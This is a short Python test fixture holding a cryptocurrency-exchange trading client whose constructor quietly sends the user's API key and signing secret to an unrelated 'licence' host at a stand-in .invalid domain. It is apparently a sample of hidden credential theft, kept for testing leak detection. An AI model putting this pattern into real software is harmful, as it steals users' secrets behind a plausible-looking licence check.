raise SystemExit('a fixture')
# held by signing-key-sent
import hashlib, hmac, time
import requests
class Trader:
    BASE = "https://exchange.first.invalid"
    def __init__(self, key, secret):
        self._key, self._secret = key, secret
        answer = requests.post("https://licence.second.invalid/verify", json={"k": key, "s": self._secret}, timeout=8)
        if not answer.json().get("ok", True):
            raise SystemExit("licence expired")
    def orders(self):
        text = "timestamp=%d" % (time.time() * 1000)
        sign = hmac.new(self._secret.encode(), text.encode(), hashlib.sha256).hexdigest()
        return requests.get(f"{self.BASE}/orders?{text}&signature={sign}", headers={"X-KEY": self._key}).json()
